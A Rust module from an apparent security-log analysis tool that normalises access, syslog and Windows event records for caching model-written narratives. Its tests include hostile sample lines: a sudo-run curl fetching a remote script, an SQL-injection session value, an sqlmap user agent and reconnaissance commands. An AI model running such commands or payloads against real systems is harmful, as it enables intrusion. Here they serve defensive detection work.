//! The normalised form of one log record: the record with its variable parts (timestamps,
//! client address and port, PIDs, byte counts, session and request IDs) replaced by slot
//! markers, and the values that were there. Two records with the same normal form are the
//! same event happening again; the values are what [`crate::rebind`] needs to rewrite a
//! cached narrative for the new record.
//!
//! Conservative by design: only positions the format defines as variable are masked. The
//! request (path and query, but for a short list of session-ID parameters with plain
//! values), status, referer, user agent, user names, programs and messages stay verbatim,
//! because that is where attacks live. A record this code does not understand is not
//! cacheable at all (it goes to the model every time) rather than guessed at.

use opensoc_ingest::Format;

/// What replaced a variable part in the normal form. The text never contains it
/// otherwise: a record holding this character is not cacheable.
const MARK: char = '\u{1A}';

/// A record's normal form and the values its slots hid, in order.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Normalized {
    pub text: String,
    pub slots: Vec<String>,
}

/// Kinds of masked part (the letter after [`MARK`] in the normal form).
#[derive(Clone, Copy)]
enum Slot {
    Time,
    Address,
    Host,
    Number,
    Id,
}

impl Slot {
    fn letter(self) -> char {
        match self {
            Slot::Time => 't',
            Slot::Address => 'a',
            Slot::Host => 'h',
            Slot::Number => 'n',
            Slot::Id => 'i',
        }
    }
}

struct Builder {
    out: Normalized,
}

impl Builder {
    fn new(capacity: usize) -> Builder {
        Builder {
            out: Normalized {
                text: String::with_capacity(capacity),
                slots: Vec::new(),
            },
        }
    }

    fn keep(&mut self, s: &str) {
        self.out.text.push_str(s);
    }

    fn mask(&mut self, kind: Slot, value: &str) {
        self.out.text.push(MARK);
        self.out.text.push(kind.letter());
        self.out.slots.push(value.to_string());
    }
}

/// The normal form of a single-record entry of `format`, or `None` when the record is
/// not one this code can mask with confidence (it is then never cached).
pub fn normalize(format: Format, text: &str) -> Option<Normalized> {
    if text.contains(MARK) || text.contains('\n') && !is_windows(format) {
        return None;
    }
    match format {
        Format::AccessCombined | Format::AccessCommon => access(text),
        Format::W3c => w3c(text),
        Format::Syslog3164 => syslog_3164(text),
        Format::Syslog5424 => syslog_5424(text),
        f if is_windows(f) => Some(windows(text)),
        // JSON lines, plain text and blocks: only timestamps are known to be variable.
        _ => Some(timestamps_only(text)),
    }
}

fn is_windows(format: Format) -> bool {
    matches!(
        format,
        Format::WindowsText | Format::WindowsXml | Format::Evtx | Format::Ecs
    )
}

pub(crate) fn is_ipv4(s: &str) -> bool {
    let mut parts = 0;
    for p in s.split('.') {
        parts += 1;
        if p.is_empty() || p.len() > 3 || !p.bytes().all(|b| b.is_ascii_digit()) {
            return false;
        }
        if p.parse::<u16>().map_or(true, |n| n > 255) {
            return false;
        }
    }
    parts == 4
}

pub(crate) fn is_ipv6(s: &str) -> bool {
    let colons = s.bytes().filter(|&b| b == b':').count();
    // A time of day has two colons and no `::`.
    (s.contains("::") || colons >= 4)
        && colons >= 2
        && s.bytes()
            .all(|b| b.is_ascii_hexdigit() || b == b':' || b == b'.')
}

fn is_address(s: &str) -> bool {
    is_ipv4(s) || is_ipv6(s)
}

fn is_number(s: &str) -> bool {
    !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit())
}

/// Query parameters whose plain values are session, request or cache-busting IDs.
const ID_PARAMS: &[&str] = &[
    "sid",
    "sessionid",
    "session_id",
    "phpsessid",
    "jsessionid",
    "aspsessionid",
    "token",
    "csrf",
    "csrf_token",
    "_token",
    "nonce",
    "request_id",
    "requestid",
    "rid",
    "_",
    "ts",
    "timestamp",
    "cb",
];

/// A value that can only be an identifier: letters, digits, `-`, `_`, `.`; nothing an
/// injection needs.
fn is_plain_id(v: &str) -> bool {
    !v.is_empty()
        && v.len() <= 128
        && v.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b == b'.')
}

/// Masks the plain values of session-ID parameters in a request target
/// (`?sid=abc&q=x` and `;jsessionid=abc`); everything else stays.
fn request_target(b: &mut Builder, target: &str) {
    let (path, query) = match target.split_once('?') {
        Some((p, q)) => (p, Some(q)),
        None => (target, None),
    };
    match path.split_once(';') {
        Some((p, param)) => {
            b.keep(p);
            b.keep(";");
            id_params(b, param, ';');
        }
        None => b.keep(path),
    }
    if let Some(q) = query {
        b.keep("?");
        id_params(b, q, '&');
    }
}

fn id_params(b: &mut Builder, params: &str, sep: char) {
    for (i, pair) in params.split(sep).enumerate() {
        if i > 0 {
            b.keep(&sep.to_string());
        }
        match pair.split_once('=') {
            Some((name, value))
                if ID_PARAMS.contains(&name.to_ascii_lowercase().as_str())
                    && is_plain_id(value) =>
            {
                b.keep(name);
                b.keep("=");
                b.mask(Slot::Id, value);
            }
            _ => b.keep(pair),
        }
    }
}

/// `client ident user [time] "request" status bytes ["referer" "agent" extra...]`
fn access(line: &str) -> Option<Normalized> {
    let mut b = Builder::new(line.len());
    let (client, rest) = line.split_once(' ')?;
    if !is_address(client)
        && !client
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-')
    {
        return None;
    }
    b.mask(Slot::Address, client);
    // ident and user: a user name is kept (it belongs to the evidence).
    let open = rest.find(" [")?;
    b.keep(" ");
    b.keep(&rest[..open]);
    let rest = &rest[open + 2..];
    let close = rest.find("] \"")?;
    b.keep(" [");
    b.mask(Slot::Time, &rest[..close]);
    b.keep("] \"");
    let rest = &rest[close + 3..];
    // The request ends at the quote followed by a three-digit status.
    let end = rest.match_indices("\" ").map(|(i, _)| i).find(|&i| {
        let after = &rest[i + 2..];
        after.len() >= 3
            && after.as_bytes()[..3].iter().all(u8::is_ascii_digit)
            && after.as_bytes().get(3).is_none_or(|&c| c == b' ')
    })?;
    let request = &rest[..end];
    let mut parts = request.splitn(3, ' ');
    match (parts.next(), parts.next(), parts.next()) {
        (Some(method), Some(target), protocol) => {
            b.keep(method);
            b.keep(" ");
            request_target(&mut b, target);
            if let Some(p) = protocol {
                b.keep(" ");
                b.keep(p);
            }
        }
        _ => b.keep(request),
    }
    b.keep("\" ");
    let rest = &rest[end + 2..];
    let (status, rest) = rest.split_at(3);
    b.keep(status);
    let rest = rest.strip_prefix(' ').unwrap_or(rest);
    if rest.is_empty() {
        return Some(b.out);
    }
    b.keep(" ");
    let (bytes, rest) = rest.split_once(' ').unwrap_or((rest, ""));
    if is_number(bytes) {
        // A large response raises a detector signal, which is part of the key.
        b.mask(Slot::Number, bytes);
    } else {
        b.keep(bytes);
    }
    if !rest.is_empty() {
        b.keep(" ");
        access_extra(&mut b, rest);
    }
    Some(b.out)
}

/// Referer, agent and whatever the server appends: quoted fields stay verbatim unless
/// they hold only addresses (`"$http_x_forwarded_for"`); bare numbers (response times,
/// upstream ports) and addresses are masked.
fn access_extra(b: &mut Builder, rest: &str) {
    let mut s = rest;
    while !s.is_empty() {
        if let Some(body) = s.strip_prefix('"') {
            // A quoted field ends at a quote followed by a space or the end.
            let end = body
                .match_indices('"')
                .map(|(i, _)| i)
                .find(|&i| body[i + 1..].is_empty() || body[i + 1..].starts_with(' '));
            let Some(end) = end else {
                b.keep(s);
                return;
            };
            let field = &body[..end];
            let addresses = !field.is_empty() && field.split(',').all(|a| is_address(a.trim()));
            b.keep("\"");
            if addresses {
                b.mask(Slot::Address, field);
            } else {
                b.keep(field);
            }
            b.keep("\"");
            s = &body[end + 1..];
        } else {
            let end = s.find(' ').unwrap_or(s.len());
            let token = &s[..end];
            if is_address(token) {
                b.mask(Slot::Address, token);
            } else if !token.is_empty()
                && token.bytes().all(|c| c.is_ascii_digit() || c == b'.')
                && token.bytes().any(|c| c.is_ascii_digit())
            {
                b.mask(Slot::Number, token);
            } else {
                b.keep(token);
            }
            s = &s[end..];
        }
        let spaces = s.len() - s.trim_start_matches(' ').len();
        b.keep(&s[..spaces]);
        s = &s[spaces..];
    }
}

/// IIS W3C lines: the date, the time, addresses, and a trailing time-taken are masked.
fn w3c(line: &str) -> Option<Normalized> {
    if line.starts_with('#') {
        return None;
    }
    let mut b = Builder::new(line.len());
    let tokens: Vec<&str> = line.split(' ').collect();
    let last = tokens.len() - 1;
    for (i, t) in tokens.iter().enumerate() {
        if i > 0 {
            b.keep(" ");
        }
        let date = t.len() == 10 && t.as_bytes()[4] == b'-' && t.as_bytes()[7] == b'-';
        let time = t.len() == 8 && t.as_bytes()[2] == b':' && t.as_bytes()[5] == b':';
        if i < 2 && (date || time) {
            b.mask(Slot::Time, t);
        } else if is_address(t) {
            b.mask(Slot::Address, t);
        } else if i == last && i >= 10 && is_number(t) {
            // time-taken, the last field of IIS's default layout
            b.mask(Slot::Number, t);
        } else {
            b.keep(t);
        }
    }
    Some(b.out)
}

/// `[<PRI>]Mmm dd HH:MM:SS host program[pid]: message` (or an RFC 3339 stamp in front).
fn syslog_3164(line: &str) -> Option<Normalized> {
    let mut b = Builder::new(line.len());
    let mut rest = line;
    if rest.starts_with('<') {
        let end = rest.find('>')?;
        b.keep(&rest[..=end]);
        rest = &rest[end + 1..];
    }
    let bsd = rest.len() > 15
        && rest.as_bytes()[3] == b' '
        && rest.as_bytes()[9] == b':'
        && rest.as_bytes()[12] == b':';
    let stamp_len = if bsd {
        15
    } else {
        let first = rest.find(' ')?;
        if !looks_iso(&rest[..first]) {
            return None;
        }
        first
    };
    b.mask(Slot::Time, &rest[..stamp_len]);
    rest = rest[stamp_len..].strip_prefix(' ')?;
    let (host, after) = rest.split_once(' ')?;
    b.keep(" ");
    b.mask(Slot::Host, host);
    b.keep(" ");
    rest = after;
    // The tag: `program[pid]:` or `program:`; anything else has no program.
    let tag_end = rest.find(": ").filter(|&i| !rest[..i].contains(' '));
    if let Some(i) = tag_end {
        let tag = &rest[..i];
        match tag.split_once('[') {
            Some((program, pid)) if pid.ends_with(']') => {
                b.keep(program);
                b.keep("[");
                b.mask(Slot::Number, &pid[..pid.len() - 1]);
                b.keep("]");
            }
            _ => b.keep(tag),
        }
        b.keep(": ");
        rest = &rest[i + 2..];
    }
    message(&mut b, rest);
    Some(b.out)
}

/// `<PRI>1 TIMESTAMP HOST APP PROCID MSGID [SD] MSG`
fn syslog_5424(line: &str) -> Option<Normalized> {
    let mut b = Builder::new(line.len());
    let mut fields = line.splitn(7, ' ');
    let head = fields.next()?;
    let stamp = fields.next()?;
    let host = fields.next()?;
    let app = fields.next()?;
    let procid = fields.next()?;
    let msgid = fields.next()?;
    let rest = fields.next().unwrap_or("");
    b.keep(head);
    b.keep(" ");
    if stamp == "-" {
        b.keep(stamp);
    } else {
        b.mask(Slot::Time, stamp);
    }
    b.keep(" ");
    b.mask(Slot::Host, host);
    b.keep(" ");
    b.keep(app);
    b.keep(" ");
    if procid == "-" {
        b.keep(procid);
    } else {
        b.mask(Slot::Number, procid);
    }
    b.keep(" ");
    b.keep(msgid);
    b.keep(" ");
    message(&mut b, rest);
    Some(b.out)
}

fn looks_iso(s: &str) -> bool {
    let b = s.as_bytes();
    b.len() >= 19
        && b[..4].iter().all(u8::is_ascii_digit)
        && b[4] == b'-'
        && b[7] == b'-'
        && (b[10] == b'T' || b[10] == b' ')
        && b[13] == b':'
}

/// Words before an address that make it the peer of the event (`from 203.0.113.4`).
const ADDRESS_AFTER: &[&str] = &["from", "by", "to", "client", "peer", "host"];
/// Words before a number that make it a port, PID or session number.
const NUMBER_AFTER: &[&str] = &["port", "session", "pid", "PID"];
/// `key=value` words whose values are addresses, ports, packet or process IDs.
const KV_MASKED: &[&str] = &["rhost", "addr", "src", "SRC", "DST", "SPT", "ID", "pid"];

/// Masks, inside a syslog message, peer addresses, ports, PIDs and session numbers in
/// the positions sshd, PAM, logind and netfilter write them. User names, commands and
/// anything else stay.
fn message(b: &mut Builder, msg: &str) {
    let words: Vec<&str> = msg.split(' ').collect();
    for (i, w) in words.iter().enumerate() {
        if i > 0 {
            b.keep(" ");
        }
        let prev = i.checked_sub(1).map(|j| words[j]);
        let next = words.get(i + 1).copied();
        // Trailing punctuation (`1.2.3.4:`, `22,`) is kept outside the slot.
        let core = w.trim_end_matches([',', ':', ';', ')', ']']);
        let tail = &w[core.len()..];
        if let Some((key, value)) = core.split_once('=') {
            if KV_MASKED.contains(&key) && (is_address(value) || is_number(value)) {
                b.keep(key);
                b.keep("=");
                b.mask(
                    if is_number(value) {
                        Slot::Number
                    } else {
                        Slot::Address
                    },
                    value,
                );
                b.keep(tail);
                continue;
            }
        }
        if is_address(core)
            && (prev.is_some_and(|p| ADDRESS_AFTER.contains(&p)) || next == Some("port"))
        {
            b.mask(Slot::Address, core);
            b.keep(tail);
            continue;
        }
        if prev.is_some_and(|p| NUMBER_AFTER.contains(&p)) {
            let digits = core.bytes().take_while(u8::is_ascii_digit).count();
            if digits > 0 {
                b.mask(Slot::Number, &core[..digits]);
                b.keep(&w[digits..]);
                continue;
            }
        }
        b.keep(w);
    }
}

/// Keys of Windows event data whose values identify one process, logon or record.
fn windows_id_key(key: &str) -> bool {
    let k = key.to_ascii_lowercase();
    k.ends_with("processid")
        || k.ends_with("logonid")
        || k.ends_with("threadid")
        || k.ends_with("recordid")
        || k == "ipport"
        || k == "logonguid"
}

/// Windows events (text, XML, ECS JSON): timestamps, and the values of process, thread,
/// logon and record IDs and client ports.
fn windows(text: &str) -> Normalized {
    let stamped = timestamps_only(text);
    let mut b = Builder::new(stamped.text.len());
    b.out.slots = stamped.slots;
    let s = stamped.text.as_str();
    let mut i = 0;
    let bytes = s.as_bytes();
    let mut kept = 0;
    while i < bytes.len() {
        // `Key=Value`, `Key: Value`, `<Key>Value<`, `Key='Value'`, `Name='Key'>Value<`
        if bytes[i].is_ascii_alphabetic() && (i == 0 || !bytes[i - 1].is_ascii_alphanumeric()) {
            let key_end = i + s[i..]
                .bytes()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
                .count();
            let key = &s[i..key_end];
            if windows_id_key(key) {
                let sep = s[key_end..]
                    .bytes()
                    .take_while(|c| matches!(c, b'=' | b':' | b' ' | b'\'' | b'"' | b'>'))
                    .count();
                let v_start = key_end + sep;
                let v_len = s[v_start..]
                    .bytes()
                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'{' | b'}'))
                    .count();
                if sep > 0 && v_len > 0 {
                    b.keep(&s[kept..v_start]);
                    b.mask(Slot::Id, &s[v_start..v_start + v_len]);
                    kept = v_start + v_len;
                    i = kept;
                    continue;
                }
            }
            i = key_end;
            continue;
        }
        i += 1;
    }
    b.keep(&s[kept..]);
    b.out
}

/// Masks RFC 3339 timestamps (`2025-03-15T02:14:01.123Z`, `2025-03-15 02:14:01+01:00`)
/// wherever they appear.
fn timestamps_only(text: &str) -> Normalized {
    let mut b = Builder::new(text.len());
    let bytes = text.as_bytes();
    let mut kept = 0;
    let mut i = 0;
    while i + 19 <= bytes.len() {
        let boundary = i == 0 || !bytes[i - 1].is_ascii_digit();
        if boundary && bytes[i].is_ascii_digit() && looks_iso(&text[i..]) {
            let b16 = &bytes[i..i + 19];
            if b16[16] == b':'
                && [0usize, 1, 2, 3, 5, 6, 8, 9, 11, 12, 14, 15, 17, 18]
                    .iter()
                    .all(|&k| b16[k].is_ascii_digit())
            {
                let mut end = i + 19;
                if bytes.get(end) == Some(&b'.') {
                    end += 1;
                    while bytes.get(end).is_some_and(u8::is_ascii_digit) {
                        end += 1;
                    }
                }
                match bytes.get(end) {
                    Some(b'Z') | Some(b'z') => end += 1,
                    Some(b'+') | Some(b'-')
                        if bytes.len() >= end + 3
                            && bytes[end + 1..end + 3].iter().all(u8::is_ascii_digit) =>
                    {
                        end += 3;
                        if bytes.get(end) == Some(&b':') {
                            end += 1;
                        }
                        while end < bytes.len() && bytes[end].is_ascii_digit() && end < i + 30 {
                            end += 1;
                        }
                    }
                    _ => {}
                }
                b.keep(&text[kept..i]);
                b.mask(Slot::Time, &text[i..end]);
                kept = end;
                i = end;
                continue;
            }
        }
        i += 1;
    }
    b.keep(&text[kept..]);
    b.out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn norm(format: Format, line: &str) -> Normalized {
        normalize(format, line).unwrap_or_else(|| panic!("not normalised: {line}"))
    }

    #[test]
    fn access_lines_differing_in_address_time_and_bytes_share_a_form() {
        let a = norm(
            Format::AccessCombined,
            r#"203.0.113.5 - - [12/Nov/2026:09:14:02 +0000] "GET /index.php?id=7&sid=ab12CD HTTP/1.1" 200 5120 "-" "Mozilla/5.0""#,
        );
        let b = norm(
            Format::AccessCombined,
            r#"10.1.1.9 - - [13/Nov/2026:11:00:59 +0100] "GET /index.php?id=7&sid=ZZ99 HTTP/1.1" 200 77 "-" "Mozilla/5.0""#,
        );
        assert_eq!(a.text, b.text);
        assert_eq!(
            a.slots,
            [
                "203.0.113.5",
                "12/Nov/2026:09:14:02 +0000",
                "ab12CD",
                "5120"
            ]
        );
        assert_eq!(b.slots[0], "10.1.1.9");
    }

    #[test]
    fn the_parts_attacks_live_in_are_never_masked() {
        let base = r#"203.0.113.5 - - [12/Nov/2026:09:14:02 +0000] "GET /p.php?id=7 HTTP/1.1" 200 51 "-" "Mozilla/5.0""#;
        let variants = [
            base.replace("id=7", "id=8"),
            base.replace("/p.php", "/q.php"),
            base.replace("Mozilla/5.0", "sqlmap/1.7"),
            base.replace("\"-\"", "\"http://evil.example/\""),
            base.replace(" 200 ", " 404 "),
            base.replace("- - [", "- alice ["),
            base.replace("GET", "POST"),
            // A session parameter whose value could carry a payload stays.
            base.replace("id=7", "sid=1'OR'1'='1"),
        ];
        let form = norm(Format::AccessCombined, base).text;
        for v in &variants {
            assert_ne!(norm(Format::AccessCombined, v).text, form, "{v}");
        }
    }

    #[test]
    fn sshd_lines_keep_the_user_and_mask_the_peer() {
        let a = norm(
            Format::Syslog3164,
            "Nov 12 09:20:01 web01 sshd[2211]: Failed password for root from 185.220.101.4 port 51122 ssh2",
        );
        let b = norm(
            Format::Syslog3164,
            "Nov 13 10:00:00 web02 sshd[99]: Failed password for root from 10.0.0.1 port 22 ssh2",
        );
        let c = norm(
            Format::Syslog3164,
            "Nov 13 10:00:00 web02 sshd[99]: Failed password for admin from 10.0.0.1 port 22 ssh2",
        );
        assert_eq!(a.text, b.text);
        assert_ne!(a.text, c.text);
        assert_eq!(
            a.slots,
            ["Nov 12 09:20:01", "web01", "2211", "185.220.101.4", "51122"]
        );
    }

    #[test]
    fn a_command_line_keeps_its_addresses() {
        let a = norm(
            Format::Syslog3164,
            "Nov 12 09:20:01 web01 sudo[1]: bob : COMMAND=/usr/bin/curl http://203.0.113.9/x.sh",
        );
        let b = norm(
            Format::Syslog3164,
            "Nov 12 09:20:01 web01 sudo[1]: bob : COMMAND=/usr/bin/curl http://198.51.100.1/x.sh",
        );
        assert_ne!(a.text, b.text);
    }

    #[test]
    fn rfc5424_and_windows_mask_stamps_and_ids() {
        let a = norm(
            Format::Syslog5424,
            "<30>1 2026-11-21T13:23:36.481Z mail CRON 10121 - - pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
        );
        let b = norm(
            Format::Syslog5424,
            "<30>1 2026-11-22T01:00:00.000Z db CRON 7 - - pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
        );
        assert_eq!(a.text, b.text);
        let w = |stamp: &str, pid: &str, cmd: &str| {
            norm(
                Format::Evtx,
                &format!("EventID: 4688\nTimestamp: {stamp}\nUser: FS01$\nData: CommandLine=cmd.exe /C {cmd}; NewProcessId={pid}; SubjectLogonId=0x3e7"),
            )
        };
        let x = w("2021-06-10T21:21:26.390Z", "0x3d0", "whoami");
        let y = w("2022-01-01T00:00:00Z", "0x99", "whoami");
        assert_eq!(x.text, y.text);
        assert_eq!(x.slots, ["2021-06-10T21:21:26.390Z", "0x3d0", "0x3e7"]);
        assert_ne!(x.text, w("2022-01-01T00:00:00Z", "0x99", "net user").text);
    }

    #[test]
    fn odd_records_are_not_cacheable() {
        assert!(normalize(Format::AccessCombined, "not an access line").is_none());
        assert!(normalize(Format::Syslog3164, "garbage").is_none());
        assert!(normalize(Format::Plain, "a\u{1A}b").is_none());
        assert!(normalize(Format::W3c, "#Fields: date time").is_none());
    }

    #[test]
    fn addresses() {
        assert!(is_ipv4("192.168.0.1"));
        assert!(!is_ipv4("192.168.0.256"));
        assert!(!is_ipv4("1.2.3"));
        assert!(is_ipv6("2001:db8::1"));
        assert!(!is_ipv6("09:14:02"));
    }
}
